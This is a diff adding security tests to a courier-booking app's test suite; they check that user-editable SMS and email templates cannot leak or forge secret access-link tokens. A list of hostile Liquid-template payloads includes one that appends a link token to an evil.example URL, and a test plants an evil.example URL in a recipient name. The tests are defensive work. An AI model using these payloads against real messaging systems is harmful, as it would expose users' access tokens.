@@ -7,6 +7,7 @@ import { type Client, useApi } from '../support/api.js';
 import {
   conversationActivities,
   latestRequest,
+  ownPath,
   recordingMessaging,
   scannedOrder,
   TUESDAY,
@@ -205,4 +206,200 @@ test("a portal user's unused invitation ends after seven days, and by the next o
   expect((await newPhone(api).get(next)).status).toBe(200);
   later(14.2);
   expect((await newPhone(api).get(next)).status).toBe(410);
+});
+
+/** What somebody with `bookings:write` might try, so that a link's token can be read. */
+const HOSTILE = [
+  '{{ link }}',
+  'X{{ link }}X https://evil.example/?x={{ link }} {% if link %}({{ link }}){% else %}none{% endif %}{{ link }}{{ link }}',
+  '{{ courier_name | upcase | default: "x" }} {{ office_phone | default: "none" }} {{ link }}',
+  'X{{ link | base64_encode }}X',
+  '{{ link | url_encode }}',
+  '{{ link | upcase }}',
+  '{{ link | default: "x" }}',
+  "{{ link | split: '' | join: ' ' }}",
+  "{{ link | replace: '-', '_' | escape }}",
+  '{{ link | slice: 0, 40 }} {{ link | slice: 40, 80 }}',
+  '{% assign token = link %}{{ token | append: "." }}',
+  '{% capture token %}{{ link }}{% endcapture %}{{ token }}',
+  '{{ link[30] }}{{ link.size }}',
+  'see \u001a',
+];
+
+describe('with every template that can be saved', () => {
+  const KINDS = ['driver_invite', 'portal_invite', 'booking_request', 'reminder', 'confirmation'] as const;
+
+  test.each(HOSTILE)('nothing that is read has a working token: %j', async (body) => {
+    const courier = await sender();
+    const { client, activities, recording } = courier;
+    const tenant = client.tenant.id;
+    const tries = await Promise.all(
+      KINDS.map((kind) =>
+        client.post('/templates', {
+          kind,
+          name: 'Own',
+          sms_body: body,
+          email_subject: 'S',
+          email_body: body,
+        }),
+      ),
+    );
+    const subject = { kind: 'confirmation', name: 'Own', email_subject: body, email_body: 'x' };
+    expect((await client.post('/templates', subject)).body.error?.param).toBe('email_subject');
+    const statuses = new Set(tries.map(({ status }) => status));
+    expect(statuses.size).toBe(1);
+    if (statuses.has(422)) {
+      for (const { body: refused } of tries) expect(refused.error.message).toMatch(/line 1, column \d+/);
+      return;
+    }
+    const { driver } = await invitedDriver(courier);
+    const { shipper, link: portal } = await invitedUser(courier);
+    const setup = await setUp(client);
+    const order = await scannedOrder(client, setup, { recipient: { phone: PHONE, email: MAIL } });
+    await client.post('/bookings/requests', { orders: [order.id] });
+    const { id: request } = await latestRequest(api, order.id);
+    await activities.sendBookingRequest({ tenant, request });
+    await activities.sendReminder({ tenant, request });
+    const asked = recording.sent.sms.map((message) => message.body);
+    const slot = { date: '2026-03-11', from: '08:00', to: '12:00' };
+    await client.post('/bookings', { order: order.id, slot });
+    await activities.sendConfirmation({ tenant, order: order.id, event_id: newId('event') });
+    const own = await ownPath(client, order.id);
+    const sent = [
+      ...recording.sent.sms.map((each) => each.body),
+      ...recording.sent.email.map(({ text }) => text),
+    ];
+    // Each is whole in what its reader got.
+    for (const path of [own, portal, asked.at(-1)?.match(/\/b\/[\w-]{27}/)?.[0] ?? 'none']) {
+      expect(sent.some((text) => text.includes(path))).toBe(true);
+    }
+
+    const user = newPhone(api);
+    await user.submit(portal, {});
+    const outbox = await api.owner.query('select o::text as row from outbox o where tenant_id = $1', [
+      tenant,
+    ]);
+    const read = [
+      ...(await Promise.all(
+        [
+          '/messages?limit=100',
+          '/events?limit=100',
+          '/audit-log?limit=100',
+          `/orders/${order.id}`,
+          `/orders/${order.id}/timeline`,
+          '/bookings/requests',
+          '/bookings/replies',
+          '/inbox',
+          '/shippers',
+          '/drivers',
+          '/templates',
+        ].map(async (path) => JSON.stringify((await client.get(path)).body)),
+      )),
+      (await client.get('/orders', { accept: 'text/csv' })).body,
+      (await user.get('/portal')).text,
+      (await user.get('/portal/orders.csv')).text,
+      (await user.get(`/portal/orders/${order.id}`)).text,
+      // What workflows are given.
+      ...outbox.rows.map(({ row }) => row as string),
+    ].join('\n');
+    expect(read).toContain('S');
+    expect(await dump()).not.toContain(own.slice(3));
+    const before = (await client.get(`/orders/${order.id}`)).body;
+    const tokens = new Set(read.match(/(?<![\w-])[\w-]{27}(?![\w-])/g));
+    // The one that shows where the order is.
+    expect([...tokens]).toContain(before.tracking_url.split('/').at(-1));
+    for (const token of tokens) {
+      expect((await newPhone(api).get(`/b/${token}`)).status).toBe(404);
+      expect([403, 404]).toContain(
+        (await newPhone(api).submit(`/t/${token}`, { note: 'Leave it at 66.' })).status,
+      );
+      expect((await newPhone(api).get(`/driver?id=${driver}&signature=${token}`)).status).toBe(404);
+      const forged = portal
+        .replace(/signature=.*/, `signature=${token}`)
+        .replace(/id=shp_\w+/, `id=${shipper}`);
+      expect((await newPhone(api).submit(forged, {})).status).toBe(404);
+    }
+    expect((await client.get(`/orders/${order.id}`)).body).toEqual(before);
+  });
+});
+
+test('a value cannot pass for the link of a message', async () => {
+  const courier = await sender();
+  const { client, activities, recording } = courier;
+  const setup = await setUp(client);
+  const order = await scannedOrder(client, setup, { recipient: { phone: PHONE, name: 'Sam' } });
+  // No way in takes it; a row might have it all the same.
+  await api.owner.query(
+    `update orders set recipient = jsonb_set(recipient, '{name}', to_jsonb('https://evil.example/?' || chr(26))) where id = $1`,
+    [order.id],
+  );
+  await client.post('/templates', {
+    kind: 'booking_request',
+    name: 'Own',
+    sms_body: '{{ recipient_name }}{{ link }}',
+  });
+  await client.post('/bookings/requests', { orders: [order.id] });
+  const { id: request, token } = await latestRequest(api, order.id);
+  await activities.sendBookingRequest({ tenant: client.tenant.id, request });
+  const text = recording.sent.sms.at(-1)?.body ?? '';
+  expect(text.match(new RegExp(token, 'g'))).toHaveLength(1);
+  expect(text).toMatch(/^https:\/\/evil\.example\/\? +http/);
+});
+
+describe('texts by which somebody is given access are the owner’s', () => {
+  const OWNERS = ['driver_invite', 'run_published', 'portal_invite'];
+  const inviting = { kind: 'driver_invite', name: 'Own', sms_body: 'Hello {{ link }}' };
+
+  test.each(OWNERS)('%s: 403 for a key with one scope', async (kind) => {
+    const client = await api.client({ mode: 'live' });
+    const scopes = ['bookings:write', 'orders:read'];
+    const { key } = (await client.post('/api-keys', { label: 'x', scopes })).body;
+    const limited = { authorization: `Bearer ${key}` };
+    const body = { ...inviting, kind };
+    const refused = await client.post('/templates', body, limited);
+    expect([refused.status, refused.body.error.code]).toEqual([403, 'insufficient_scope']);
+    const made = await client.post('/templates', body);
+    expect(made.status).toBe(201);
+    const path = `/templates/${made.body.id}`;
+    expect((await client.get(path, limited)).status).toBe(200);
+    expect((await client.patch(path, { sms_body: 'Other' }, limited)).status).toBe(403);
+    expect((await client.delete(path, undefined, limited)).status).toBe(403);
+    expect((await client.get(path)).body).toEqual(made.body);
+    const other = { ...inviting, kind: 'message', sms_body: 'Hi' };
+    expect((await client.post('/templates', other, limited)).status).toBe(201);
+    expect((await client.delete(path)).status).toBe(204);
+  });
+});
+
+describe('a stored template that is not as templates must be', () => {
+  test.each([
+    ['of an earlier grammar', "{{ link | split: '' | where_exp: 'x', 'x == 1' | size }}"],
+    ['that becomes too long', '{{ sender_name }}'.repeat(80)],
+    ['with a placeholder of another kind', '{{ eta }}'],
+  ])('%s gives way to the built-in text, and the office is told once', async (_what, body) => {
+    const courier = await sender();
+    const { client } = courier;
+    await client.patch('/settings', { notify_emails: ['office@courier.example'] });
+    const made = await client.post('/templates', {
+      kind: 'booking_request',
+      name: 'Own',
+      sms_body: 'x {{ link }}',
+    });
+    await api.owner.query('update templates set sms_body = $2 where id = $1', [made.body.id, body]);
+    const preview = await client.post(`/templates/${made.body.id}/preview`);
+    expect([preview.status, preview.body.error.param]).toEqual([422, 'sms_body']);
+    const setup = await setUp(client);
+    for (let times = 0; times < 2; times += 1) {
+      const order = await scannedOrder(client, setup, { recipient: { phone: PHONE } });
+      await client.post('/bookings/requests', { orders: [order.id] });
+      const { id: request } = await latestRequest(api, order.id);
+      await courier.activities.sendBookingRequest({ tenant: client.tenant.id, request });
+      expect(courier.recording.sent.sms.at(-1)?.body).toContain('Reply with a number');
+    }
+    const { data } = (await client.get('/messages')).body;
+    expect(data.filter(({ template }: any) => template === 'booking_request')).toHaveLength(2);
+    const told = data.filter(({ template }: any) => template === 'template_refused');
+    expect(told.map(({ to }: any) => to)).toEqual(['office@courier.example']);
+    expect(told[0].body).toContain(made.body.id);
+  });
 });
